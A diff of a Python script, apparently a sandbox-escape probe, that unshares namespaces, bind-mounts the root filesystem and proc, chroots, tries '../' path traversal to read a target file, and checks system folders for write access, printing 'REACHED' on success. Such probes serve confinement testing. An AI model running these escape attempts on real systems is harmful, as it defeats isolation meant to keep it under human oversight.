@@ -18,19 +18,23 @@ def tear_down(libc):
             libc.mount(b'none', place, None, ctypes.c_ulong(REMOUNT | BIND), None)
 
 
-def look_for_a_way_out(libc):
-    os.makedirs('inner', exist_ok=True)
-    libc.mount(b'/', b'inner', None, ctypes.c_ulong(BIND), None)
-    libc.mount(b'proc', b'inner', b'proc', ctypes.c_ulong(0), None)
+def look_for_the_file():
     for path in (PATH, '../' * 40 + PATH.lstrip('/')):
         try:
             with open(path) as file:
                 print('REACHED', file.read(), flush=True)
         except OSError as error:
             print(error)
+
+
+def look_around(libc):
+    look_for_the_file()
     for folder in ('/', '/usr/lib', '/lib', '/dev'):
         if os.access(folder, os.W_OK):
             print('REACHED', folder, 'writable', flush=True)
+    os.makedirs('inner', exist_ok=True)
+    libc.mount(b'/', b'inner', None, ctypes.c_ulong(BIND), None)
+    libc.mount(b'proc', b'inner', b'proc', ctypes.c_ulong(0), None)
 
 
 def attack():
@@ -38,9 +42,9 @@ def attack():
     for rights in (0, NEW_USER | NEW_MOUNTS):
         libc.unshare(rights)
         tear_down(libc)
-        look_for_a_way_out(libc)
+        look_around(libc)
     libc.chroot(b'inner')
-    look_for_a_way_out(libc)
+    look_for_the_file()
 
 
 attack()
